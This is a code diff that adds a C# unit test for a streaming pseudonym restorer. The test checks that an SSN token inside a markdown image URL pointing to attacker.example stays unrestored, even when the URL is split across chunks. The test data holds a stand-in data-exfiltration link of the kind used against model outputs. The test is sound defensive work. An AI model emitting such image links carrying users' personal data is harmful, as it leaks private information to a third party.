@@ -112,4 +112,14 @@ public sealed class StreamingPseudonymRestorerTests
             Assert.DoesNotContain("<S", released, StringComparison.Ordinal);
         }
     }
+
+    [Fact]
+    public void Does_not_restore_a_token_in_a_url_split_across_chunks()
+    {
+        var restorer = Restorer();
+
+        var output = restorer.Push("![x](https:/") + restorer.Push("/attacker.example/?q=<SS") + restorer.Push("N_1>) and <NAME_1>") + restorer.Flush();
+
+        Assert.Equal("![x](https://attacker.example/?q=<SSN_1>) and Jane Roe", output);
+    }
 }
